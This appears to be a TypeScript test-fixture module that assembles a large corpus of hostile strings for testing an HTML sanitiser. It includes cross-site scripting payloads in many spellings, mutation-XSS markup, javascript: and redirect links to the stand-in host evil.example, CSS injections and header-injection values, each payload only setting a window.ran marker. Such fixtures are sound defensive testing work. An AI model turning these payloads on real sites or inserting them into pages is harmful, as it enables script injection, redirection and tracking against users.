import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import * as z from "zod";
import { sanitiserLeftovers, sanitiserLinks, sanitiserPayloads } from "./sanitiser-fixtures.ts";

const naughtyList = createRequire(import.meta.url).resolve("big-list-of-naughty-strings/blns.json");

/** The Big List of Naughty Strings, https://github.com/minimaxir/big-list-of-naughty-strings */
export const naughtyStrings = z.array(z.string()).parse(JSON.parse(readFileSync(naughtyList, "utf8")));

/** What a payload does where it runs: journeys look for it. */
const code = "window.ran=1";

const handlers = [
  "onerror", "onload", "onclick", "onfocus", "onblur", "onmouseover", "onpointerenter", "onanimationstart", "ontransitionend", "ontoggle",
  "onbeforetoggle", "onpageshow", "onscroll", "onscrollend", "onbegin", "onend", "onstart", "onfinish", "oncanplay", "oncuechange",
  "onloadstart", "onbeforematch", "oncontentvisibilityautostatechange", "onsecuritypolicyviolation", "ONERROR", "oNlOaD",
];
const carriers = [
  "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x", "embed src=x",
  "marquee", "select autofocus", "textarea autofocus", "a href=/ autofocus", "p style=animation:x", "math", "table background=x", "custom-element",
];

/** Handlers on elements, spelt in the ways that filters were once passed with. */
const events = carriers.flatMap((carrier, index) =>
  handlers.filter((_, other) => (index + other) % 3 === 0).map((handler) => `<${carrier} ${handler}="${code}">x</${carrier.split(" ")[0]}>`),
);
const spellings = [
  `<img/src=x/onerror=${code}>`, `<img\tsrc=x\tonerror=${code}>`, `<img\nsrc=x\nonerror=${code}>`, `<img\fsrc=x\fonerror=${code}>`, `<IMG SRC=x ONERROR=${code}>`,
  `<img src=x onerror=${code}//`, `<img src="x\` onerror=${code}>`, `<img src='x'onerror='${code}'>`, `<<img src=x onerror=${code}>`, `<img src=x onerror\x00=${code}>`,
  `<img \x00src=x onerror=${code}>`, `<im\x00g src=x onerror=${code}>`, `<img src=x onerror=&#119;indow.ran=1>`, `<img src=x onerror="&#x77;indow.ran&equals;1">`, `"><img src=x onerror=${code}>`,
  `'><img src=x onerror=${code}>`, `"/><svg/onload=${code}>`, `' onmouseover='${code}`, `" autofocus onfocus="${code}`, `\` onmouseover=\`${code}`, `\u003cimg src=x onerror=${code}\u003e`,
  `%3Cimg%20src=x%20onerror=${code}%3E`, `&lt;img src=x onerror=${code}&gt;`, `&amp;lt;img src=x onerror=${code}&amp;gt;`, `＜img src=x onerror=${code}＞`, `+ADw-img src=x onerror=${code}+AD4-`,
  `\u1680<svg onload=${code}>`, `<svg/onload=${code}><svg>`, `<svg onload="${code}"`, `<x onclick=${code} tabindex=1>x`, `<img src=x:x onerror=${code}//>`,
];
const scripts = [
  `<script>${code}</script>`, `<SCRIPT>${code}</SCRIPT>`, `<scr<script>ipt>${code}</scr</script>ipt>`, `<script >${code}</script >`, `<script/x>${code}</script>`, `<script\n>${code}</script\n>`,
  `</script><script>${code}</script>`, `--><script>${code}</script>`, `]]><script>${code}</script>`, `*/</script><script>${code}/*`, `';${code};'`, `";${code};"`, `\`;${code};\``, `\${${code}}`, `{{${code}}}`,
  `{{constructor.constructor('${code}')()}}`, `<script src=data:text/javascript,${code}></script>`, `<script type=module>${code}</script>`, `<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>`,
  `<script type=importmap>{"imports":{"/static/app.js":"data:text/javascript,${code}"}}</script>`, `<script for=window event=onload>${code}</script>`, `<svg><script>${code}</script></svg>`,
  `<svg><script href="data:text/javascript,${code}"/></svg>`, `<svg><script>&#119;indow.ran=1</script></svg>`, `<math><script>${code}</script></math>`, `<noscript><script>${code}</script></noscript>`,
  `<template><script>${code}</script></template>`, `<xmp><script>${code}</script></xmp>`, `<textarea><script>${code}</script></textarea>`, `<title><script>${code}</script></title>`, `</style><script>${code}</script>`,
  `</textarea><script>${code}</script>`, `</title><script>${code}</script>`, `</noscript><script>${code}</script>`, `</template><script>${code}</script>`, `</div></div></main></div><script>${code}</script>`,
];
/** Markup that becomes something else when it is written and parsed once more. */
const mutations = [
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`, `<svg><p><style><g title="</style><img src=x onerror=${code}>"></g></style></p></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${code}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${code}>">`, `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${code}>"></style></annotation-xml></math>`,
  `<svg><desc><noembed></desc></svg><img src=x onerror=${code}>`, `<svg><foreignObject><p><iframe srcdoc="<script>${code}</script>"></iframe></p></foreignObject></svg>`, `<table><tr><td><svg><desc><td></desc></svg><title><img title="</title><img src=x onerror=${code}>">`,
  `<select><noscript></select><img src=x onerror=${code}></noscript>`, `<select><iframe></select><img src=x onerror=${code}>`, `<option><style></option></select><b><img src=1 onerror=${code}></style></option>`,
  `<!--><img src=x onerror=${code}>-->`, `<!--!> <img src=x onerror=${code}> -->`, `<!-- --!><img src=x onerror=${code}>`, `<![CDATA[<img src=x onerror=${code}>]]>`, `<?xml <img src=x onerror=${code}>?>`, `<!doctype html><img src=x onerror=${code}>`,
  `<plaintext><img src=x onerror=${code}>`, `<listing>&lt;img src=x onerror=${code}&gt;</listing>`, `<a><b><a><img src=x onerror=${code}></a></b></a>`, `<p><table><p><img src=x onerror=${code}></table>`,
  `<div>`.repeat(600) + `<img src=x onerror=${code}>`, `<b>`.repeat(300) + "x", `<template><template><img src=x onerror=${code}></template>`, `<template shadowrootmode=open><img src=x onerror=${code}></template>`, `<frameset onload=${code}>`,
  `<svg><style>*{background:url("javascript:${code}")}</style></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${code}'/></svg>#x"/></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${code}"/><text>x</text></a></svg>`, `<svg><set attributeName=onmouseover to="${code}"/></svg>`, `<svg><image href="x" onerror="${code}"/></svg>`,
];
const loads = [
  `<iframe src="javascript:${code}"></iframe>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`, `<object data="javascript:${code}"></object>`, `<embed src="javascript:${code}">`, `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`, `<meta http-equiv="Content-Security-Policy" content="script-src *">`, `<link rel=stylesheet href="data:text/css,*{display:none}">`, `<link rel=import href=//evil.example>`,
  `<form action="javascript:${code}"><button>x</button></form>`, `<button formaction="javascript:${code}">x</button>`, `<input type=image src=x formaction="javascript:${code}">`, `<isindex action="javascript:${code}">`, `<style>@import "//evil.example";</style>`,
  `<style>body{display:none}</style>`, `<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>`, `<div style="behavior:url(x)">x</div>`, `<xss style="xss:expression(${code})">`, `<img src="//evil.example/pixel">`, `<img srcset="//evil.example/pixel 2x">`,
  `<video poster="javascript:${code}">`, `<a ping="//evil.example" href=/>x</a>`, `<a id=root name=root>x</a>`, `<form id=root><input name=dataset></form>`, `<img name=getElementById>`, `<div id=root data-app="data:text/javascript,${code}">x</div>`, `<p id=trustedTypes>x</p>`, `<p class="app">x</p>`,
  `<dialog open>x</dialog>`, `<portal src=//evil.example>`, `<keygen autofocus onfocus=${code}>`, `<slot name=x>`, `<object type="text/x-scriptlet" data="//evil.example">`, `<layer src=//evil.example>`, `<bgsound src="javascript:${code}">`, `<a href="/help" target="_top" rel="opener" download>x</a>`,
];
const breaks = ["", " ", "\t", "\n", "\r", "\f", "\0", "\u0001", "\u001f", "\u00a0", "\u1680", "\u2028", "\u2029", "\u200b", "\u3000", "\ufeff", "\u00ad"];
/** Addresses that run, or lead elsewhere than they seem to. */
export const hostileLinks = [
  ...breaks.flatMap((one) => [`${one}javascript:${code}`, `java${one}script:${code}`, `javascript${one}:${code}`]),
  `JaVaScRiPt:${code}`, `javascript://%0a${code}`, `javascript://example.co.za/?%0a${code}`, `javascript&colon;${code}`, `javascript&#58;${code}`, `&#106;avascript:${code}`, `&#x6a;avascript:${code}`, `j&Tab;avascript:${code}`, `java&NewLine;script:${code}`,
  `\\x6aavascript:${code}`, `\\u006aavascript:${code}`, `%6aavascript:${code}`, `javascript%3a${code}`, `feed:javascript:${code}`, `view-source:javascript:${code}`, `jar:javascript:${code}!/x`, `vbscript:msgbox(1)`, `livescript:${code}`, `mocha:${code}`,
  `data:text/html,<script>${code}</script>`, `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`, `data:image/svg+xml,<svg onload=${code}>`, `data:,x`, `blob:https://evil.example/1`, `filesystem:https://evil.example/1`, `file:///etc/passwd`, `about:blank`, `ftp://evil.example`,
  `//evil.example`, `///evil.example`, `////evil.example`, `/\\evil.example`, `\\\\evil.example`, `\\/evil.example`, `/\t/evil.example`, `/\n/evil.example`, `/..//evil.example`, `/.//evil.example`, `https:evil.example`, `https:/evil.example`, `https:\\\\evil.example`, `http:/\\evil.example`,
  `https://www.example.co.za@evil.example`, `https://user:pass@evil.example`, `https://www.example.co.za\\@evil.example`, `https://[::1`, `https://`, `intent://x#Intent;scheme=https;end`, `ws://evil.example`, `tel:1\u0000`, `mailto:a@b\r\nBcc:c`, `?x`, `x`, `.`, `./x`, `../x`,
];
const linked = hostileLinks.map((link) => `<a href="${link.replaceAll('"', "&quot;")}">x</a>`);
export const hostileColors = [
  "red", "#ff", "#fffffff", "#ggg", "#fff;}", "#fff}</style><script>window.ran=1</script>", "url(//evil.example)", "expression(window.ran=1)", "var(--x)", "#fff/**/", "#fff\n", " #fff", "rgb(0,0,0)", "inherit", "#fff!important", "\\23 fff", "#０００",
];

/** Texts of all classes, for every field that takes a text. */
export const hostileTexts: string[] = [
  ...new Set([
    ...events, ...spellings, ...scripts, ...mutations, ...loads, ...linked, ...hostileLinks, ...hostileColors, ...naughtyStrings,
    ...sanitiserPayloads, ...sanitiserLeftovers, ...sanitiserLinks,
  ]),
];
